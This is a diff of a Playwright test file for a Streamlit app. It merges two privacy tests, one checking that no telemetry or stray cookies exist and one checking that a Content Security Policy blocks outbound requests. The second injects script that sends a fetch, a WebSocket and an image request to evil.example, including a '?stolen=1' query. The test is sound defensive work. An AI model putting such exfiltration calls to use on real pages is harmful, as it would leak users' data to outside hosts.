@@ -8,7 +8,7 @@ import json
 import os
 import re
 import threading
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from contextlib import contextmanager
 from typing import Any
 from urllib.parse import urlsplit
@@ -241,30 +241,29 @@ def test_a_setting_that_would_open_the_policy_stops_the_start() -> None:
         pass
 
 
-def test_the_policy_stops_what_a_script_would_send_out(page: Page, guard: Any) -> None:
-    """A request, a socket and a picture to another host: each is stopped by the policy before it leaves."""
-    guard.expected += ["Content Security Policy", "Failed to fetch", "Fetch API cannot load"]
-    open_atlas(page)
-    page.evaluate(
-        """async () => {
-            const told = window.essTold = [];
-            document.addEventListener("securitypolicyviolation", (one) => told.push(one.effectiveDirective));
-            try { await fetch("https://evil.example/?stolen=1"); } catch {}
-            try { new WebSocket("wss://evil.example/"); } catch {}
-            await new Promise((done) => { const picture = new Image(); picture.onerror = done;
-                picture.src = "https://evil.example/a.png"; });
-        }"""
-    )
-    poll_equal(page, "window.essTold.toSorted()", ["connect-src", "connect-src", "img-src"])
-    guard.outside[:] = [one for one in guard.outside if not one.startswith("https://evil.example/")]
-
-
-def test_nothing_is_told_to_anyone(new_page: Callable[..., Page], guard: Any) -> None:
+def test_nothing_is_told_to_anyone_and_the_policy_stops_what_a_script_would_send_out(
+    page: Page, guard: Any, subtests: pytest.Subtests
+) -> None:
     """No telemetry, no cookie beyond the token against forged requests; the guard fails on any other host."""
-    page = new_page()
     open_atlas(page)
-    assert {one["name"] for one in page.context.cookies()} <= {"_streamlit_xsrf"}
-    stored = page.evaluate("JSON.stringify([Object.keys(localStorage), Object.keys(sessionStorage)])")
-    assert not re.search(r"token|secret|user", stored, re.IGNORECASE)
-    assert not guard.outside
-    assert os.environ.get("STREAMLIT_BROWSER_GATHER_USAGE_STATS", "false").lower() != "true"
+    with subtests.test("nothing is told to anyone"):
+        assert {one["name"] for one in page.context.cookies()} <= {"_streamlit_xsrf"}
+        stored = page.evaluate("JSON.stringify([Object.keys(localStorage), Object.keys(sessionStorage)])")
+        assert not re.search(r"token|secret|user", stored, re.IGNORECASE)
+        assert not guard.outside
+        assert not guard.errors
+        assert os.environ.get("STREAMLIT_BROWSER_GATHER_USAGE_STATS", "false").lower() != "true"
+    guard.expected += ["Content Security Policy", "Failed to fetch", "Fetch API cannot load"]
+    with subtests.test("a request, a socket and a picture to another host are stopped before they leave"):
+        page.evaluate(
+            """async () => {
+                const told = window.essTold = [];
+                document.addEventListener("securitypolicyviolation", (one) => told.push(one.effectiveDirective));
+                try { await fetch("https://evil.example/?stolen=1"); } catch {}
+                try { new WebSocket("wss://evil.example/"); } catch {}
+                await new Promise((done) => { const picture = new Image(); picture.onerror = done;
+                    picture.src = "https://evil.example/a.png"; });
+            }"""
+        )
+        poll_equal(page, "window.essTold.toSorted()", ["connect-src", "connect-src", "img-src"])
+        guard.outside[:] = [one for one in guard.outside if not one.startswith("https://evil.example/")]
